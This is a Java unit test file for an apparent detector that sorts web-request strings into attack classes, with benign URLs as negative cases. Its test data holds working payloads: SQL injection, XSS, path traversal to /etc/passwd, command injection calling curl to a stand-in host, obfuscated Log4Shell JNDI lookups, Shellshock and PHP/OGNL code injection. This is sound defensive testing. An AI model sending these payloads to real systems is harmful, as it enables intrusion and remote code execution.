package io.hark.format;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.Set;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class AttackSignTest {

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            quoteCharacter = '~',
            value = {
                "/item?id=1%27+OR+%271%27%3D%271 | SQL",
                "/item?id=-1+union+all+select+1,2,version() | SQL",
                "/item?id=1;waitfor delay '0:0:5' | SQL",
                "/q?s=%253Cscript%253Ealert(1)%253C/script%253E | SCRIPT",
                "/q?s=<img src=x onerror=alert(1)> | SCRIPT",
                "/show?file=../../../../etc/passwd | TRAVERSAL",
                "/show?file=..%2f..%2f..%2fboot.ini | TRAVERSAL",
                "/ping?host=127.0.0.1;cat /etc/hosts | COMMAND",
                "/ping?host=$(curl http://192.0.2.1/x) | COMMAND",
                "/cgi-bin/x?%0a/bin/sh -c id | COMMAND",
                "${jndi:ldap://192.0.2.1/a} | JNDI",
                "${${lower:j}ndi:${lower:l}dap://192.0.2.1/a} | JNDI",
                "${${::-j}${::-n}di:rmi://192.0.2.1/a} | JNDI",
                "() { :; }; echo vulnerable | SHELLSHOCK",
                "/x.php?c=eval($_POST[1]) | CODE",
                "/?q=cGhwOi8vZmlsdGVyL2NvbnZlcnQ7IDw/cGhwIGV4aXQ= | CODE",
                "%{(#_memberAccess=@ognl.OgnlContext@DEFAULT)} | CODE"
            })
    void a_text_that_means_to_be_run_is_told(String text, AttackSign sign) {
        assertThat(AttackSign.in(text)).contains(sign);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "/",
                "/index.html?a=1&id=2&sh=3&cat=4",
                "/search?q=the+union+selected+a+new+leader",
                "/search?q=rock+%27n%27+roll+or+jazz",
                "/a/../b/style.css",
                "/watch?v=dQw4w9WgXcQ&list=PL0a1b2c3&index=7",
                "/select?order=asc&from=2020-01-01&where=here",
                "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko)",
                "Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1; .NET CLR 2.0.50727)",
                "/pixel?u=https%3A%2F%2Fexample.test%2F%3Fa%3D%22b%22",
                "/collect?data=eyJhIjoxLCJiIjoidHdvIiwiYyI6WzEsMiwzXX0="
            })
    void ordinary_text_has_no_sign(String text) {
        assertThat(AttackSign.in(text)).isEmpty();
    }

    @Test
    void broken_percent_signs_hide_nothing() {
        assertThat(AttackSign.in("/?id=%'+or+'0'%3D'0")).isEqualTo(Set.of(AttackSign.SQL));
    }
}
